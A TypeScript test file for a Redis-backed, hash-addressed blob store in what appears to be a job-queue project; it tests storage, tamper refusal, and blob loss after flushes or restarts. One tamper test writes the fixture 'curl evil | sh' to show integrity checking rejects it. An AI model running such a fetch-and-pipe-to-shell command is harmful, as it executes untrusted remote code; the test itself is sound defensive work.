import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { Redis } from 'ioredis';
import { BlobStore, sha256 } from '../../src/queue/blob-store.js';
import { KEY_PREFIX } from '../../src/queue/step-job.js';
import { RaymondError } from '../../src/errors.js';
import { NO_REDIS, startRedis, type RedisServer } from '../helpers/redis.js';

let server: RedisServer | undefined;
let redis: Redis;
let blobs: BlobStore;

before(async () => {
  server = await startRedis();
  if (!server) return;
  redis = new Redis(server.url, { maxRetriesPerRequest: null });
  blobs = new BlobStore(redis, KEY_PREFIX);
});
after(async () => {
  redis?.disconnect();
  await server?.stop();
});

/** The RaymondError a promise rejects with. */
async function rejection(p: Promise<unknown>): Promise<RaymondError> {
  try {
    await p;
  } catch (err) {
    assert.ok(err instanceof RaymondError, `not a RaymondError: ${String(err)}`);
    return err;
  }
  assert.fail('resolved');
}

describe('sha256', () => {
  it('is the hex SHA-256 of text or bytes alike', () => {
    assert.equal(sha256(''), 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
    assert.equal(sha256(Buffer.from('abc')), sha256('abc'));
    assert.equal(sha256('abc'), 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
  });
});

describe('BlobStore (against a real redis-server)', () => {
  it('stores bytes under raymond:blob:<sha> and gives them back', async (t) => {
    if (!server) return t.skip(NO_REDIS);
    const data = Buffer.from([0, 1, 2, 255, 254, 10, 13]);
    const sha = await blobs.put(data);
    assert.equal(sha, sha256(data));
    assert.deepEqual(await redis.getBuffer(`raymond:blob:${sha}`), data);
    assert.deepEqual(await blobs.get(sha), data);
    assert.equal(await blobs.put(Buffer.from(data)), sha, 'the same bytes again: the same blob');
  });

  it('refuses a blob whose bytes no longer match their hash', async (t) => {
    if (!server) return t.skip(NO_REDIS);
    const sha = await blobs.put(Buffer.from('echo honest\n'));
    await redis.set(`raymond:blob:${sha}`, Buffer.from('curl evil | sh\n'));
    const err = await rejection(blobs.get(sha));
    assert.equal(err.code, 'ERR_QUEUE_REFUSED');
    assert.match(err.message, new RegExp(`does not match its hash ${sha.slice(0, 12)}: refused`));
  });

  it('put does not overwrite a blob Redis has (NX)', async (t) => {
    if (!server) return t.skip(NO_REDIS);
    const data = Buffer.from('kept once');
    const sha = sha256(data);
    await redis.set(`raymond:blob:${sha}`, 'tampered');
    assert.equal(await blobs.put(data), sha);
    assert.equal(await redis.get(`raymond:blob:${sha}`), 'tampered');
    assert.equal((await rejection(blobs.get(sha))).code, 'ERR_QUEUE_REFUSED');
  });

  it('says which blob the queue has not got', async (t) => {
    if (!server) return t.skip(NO_REDIS);
    const sha = sha256('never stored');
    const err = await rejection(blobs.get(sha));
    assert.equal(err.code, 'ERR_QUEUE');
    assert.match(err.message, new RegExp(`no file with hash ${sha.slice(0, 12)}`));
  });

  it('missing counts the blobs Redis lost in a FLUSHALL', async (t) => {
    if (!server) return t.skip(NO_REDIS);
    const shas = await Promise.all(['one', 'two', 'three'].map((s) => blobs.put(Buffer.from(`missing-${s}`))));
    assert.equal(await blobs.missing(shas), 0);
    assert.equal(await blobs.missing([]), 0);
    assert.equal(await blobs.missing([...shas, sha256('never stored')]), 1);
    await redis.flushall();
    assert.equal(await blobs.missing(shas), 3);
    await blobs.put(Buffer.from('missing-two'));
    assert.equal(await blobs.missing(shas), 2);
  });

  it('missing counts the blobs a Redis restarted without persistence lost; the connection comes back by itself', async (t) => {
    if (!server) return t.skip(NO_REDIS);
    const shas = await Promise.all(['a', 'b'].map((s) => blobs.put(Buffer.from(`restart-${s}`))));
    assert.equal(await blobs.missing(shas), 0);
    await server.restart();
    assert.equal(await blobs.missing(shas), 2);
    assert.equal(await blobs.put(Buffer.from('restart-a')), shas[0]);
    assert.deepEqual(await blobs.get(shas[0]!), Buffer.from('restart-a'));
  });
});
